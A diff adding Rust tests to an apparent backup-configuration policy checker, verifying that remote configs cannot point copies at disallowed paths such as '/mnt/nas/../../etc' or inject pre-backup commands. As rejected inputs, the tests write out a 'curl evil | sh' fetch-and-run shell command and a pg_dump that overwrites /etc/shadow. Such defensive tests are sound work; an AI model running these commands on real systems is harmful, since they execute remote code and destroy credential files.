@@ -384,6 +384,99 @@ fn backup_sources_and_destinations_are_checked_separately() {
 }
 
 #[test]
+fn a_remote_copy_path_is_a_destination_for_the_policy() {
+    let file = "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
+                sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
+                [modules.jobs.remote]\ntype = \"path\"\npath = \"/mnt/nas/app\"\n";
+    let bk = |remote: &str| {
+        module(&format!(
+            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
+             sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
+             [jobs.remote]\ntype = \"path\"\npath = \"{remote}\"\n"
+        ))
+    };
+    let strict = host("", file);
+    for (remote, ok) in [
+        ("/mnt/nas/app", true),
+        ("/mnt/nas/app/sub", true),
+        ("/etc", false),
+        ("/mnt/nas/../../etc", false),
+    ] {
+        let v = strict.check_module("bk", "backup", &bk(remote), Surface::Command, &none);
+        if ok {
+            assert!(v.is_empty(), "{remote}: {v:?}");
+        } else {
+            assert_eq!(
+                rules(&v),
+                [("policy.backup_destinations", "jobs[0].remote.path")],
+                "{remote}"
+            );
+        }
+    }
+    let listed = host("backup_destinations = [\"/srv/copies\"]", file);
+    assert!(listed
+        .check_module(
+            "bk",
+            "backup",
+            &bk("/srv/copies/app"),
+            Surface::Admin,
+            &none
+        )
+        .is_empty());
+}
+
+#[test]
+fn pre_backup_commands_are_never_added_or_changed_remotely() {
+    let job = |cmd: &str| {
+        format!(
+            "[[jobs]]\nname = \"pg\"\nsources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
+             [jobs.pre_backup]\ncommand = [{cmd}]\noutput = \"app.dump\"\n"
+        )
+    };
+    let dump = "\"/usr/bin/pg_dump\", \"-f\", \"{output}\"";
+    let file = format!(
+        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n{}",
+        job(dump)
+            .replace("[[jobs]]", "[[modules.jobs]]")
+            .replace("[jobs.", "[modules.jobs.")
+    );
+    let remote = |cmd: &str| module(&format!("type = \"backup\"\nname = \"bk\"\n{}", job(cmd)));
+    // Every allowance the policy has, and both surfaces: none lets a new command in.
+    let open = host(
+        "allow_kind_change = true\nallow_command_probes = true\nbackup_sources = [\"/\"]\n\
+         backup_destinations = [\"/\"]",
+        &file,
+    );
+    for surface in [Surface::Command, Surface::Admin] {
+        assert!(open
+            .check_module("bk", "backup", &remote(dump), surface, &none)
+            .is_empty());
+        for cmd in [
+            "\"/bin/sh\", \"-c\", \"curl evil | sh\"",
+            "\"/usr/bin/pg_dump\", \"-f\", \"/etc/shadow\"",
+        ] {
+            let v = open.check_module("bk", "backup", &remote(cmd), surface, &none);
+            assert_eq!(
+                rules(&v),
+                [("pre_backup commands", "jobs[0].pre_backup.command")],
+                "{cmd}"
+            );
+        }
+    }
+    // A file without any step: a remote config may not add one.
+    let plain = host(
+        "",
+        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"pg\"\n\
+         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n",
+    );
+    let v = plain.check_module("bk", "backup", &remote(dump), Surface::Command, &none);
+    assert_eq!(
+        rules(&v),
+        [("pre_backup commands", "jobs[0].pre_backup.command")]
+    );
+}
+
+#[test]
 fn restore_targets_only_under_the_allowlist() {
     let fs = Fs::new(
         &["/", "/srv", "/srv/restore", "/etc"],
